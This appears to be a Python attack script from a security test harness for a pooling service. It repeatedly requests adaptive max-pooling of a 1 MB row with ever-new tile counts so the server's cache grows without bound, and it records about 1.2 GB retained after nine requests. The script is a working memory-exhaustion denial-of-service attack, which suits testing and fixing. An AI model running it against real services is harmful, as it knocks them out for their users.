"""Requests that make the server cache large tables, each with other parameters.

The kernel of an adaptive operator needs a table of the columns of its tiles, as long as a row. A thousand entries of a
cache that counts only entries then hold gigabytes for ever.
"""

import itertools
import time

import numpy as np

from poolservice_client import AdaptiveMaxPool1d, AsyncPoolClient
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = "1,182 MB of caches kept for ever after nine requests of 1 MB"

_ROW = 10**6
_SPECS = 16


async def attack(target: Target, seconds: float) -> str:
    """Pool one long row to ever different numbers of tiles."""
    row = np.arange(_ROW).astype(np.uint8)[None]
    sizes = itertools.count(1000)
    end = time.monotonic() + seconds
    requests = 0
    async with AsyncPoolClient(target.address) as client:
        while time.monotonic() < end:
            await client.pool(row, [AdaptiveMaxPool1d(next(sizes)) for _ in range(_SPECS)])
            requests += 1
    return f"{requests} requests of 1 MB with {_SPECS} specs each, none repeated"
